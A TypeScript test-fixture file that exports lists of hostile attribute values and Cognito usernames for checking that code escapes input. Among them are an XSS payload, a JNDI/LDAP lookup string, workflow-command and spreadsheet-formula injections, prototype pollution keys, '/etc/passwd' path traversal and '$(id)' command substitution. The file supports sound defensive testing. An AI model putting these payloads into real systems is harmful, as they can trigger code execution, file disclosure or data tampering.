/** Exactly 2,048 bytes of UTF-8: the limit of an attribute. */
const longest = `${'é'.repeat(1023)}ab`

/**
 * Attribute values that break careless code: text that splits lines, commands
 * of a workflow's runner, spreadsheet formulas, markup, names of prototypes.
 */
export const hostileValues = [
  'two\u2028lines\u2029to some',
  'a\n::set-output name=users::0',
  '##[error]not an error',
  ' leading and trailing ',
  'comma, "quotes", \\backslash\\ and \ttab',
  `=HYPERLINK("http://example.com","click")`,
  '<img src=x onerror=alert(1)> **bold** `code` [link](http://example.com)',
  '\u202Eright to left override',
  '${jndi:ldap://example.com/a} {{7*7}} %s',
  '{"__proto__":{"admin":true}}',
  '😀👨‍👩‍👧‍👦🇪🇺',
  '\uFEFFbyte order mark, zero\u200Bwidth',
  '/../../etc/passwd',
  longest
] as const

/**
 * Usernames that Cognito accepts and that break careless code. None has a line
 * break or a space: the pattern of usernames excludes them.
 */
export const hostileUsernames = [
  '##[error]x',
  '::error::y',
  '__proto__',
  'constructor',
  '../../etc/passwd',
  '$(id)',
  '"quoted",\\',
  '=1+1',
  '<b>|`*_',
  '🧑🚀'
] as const
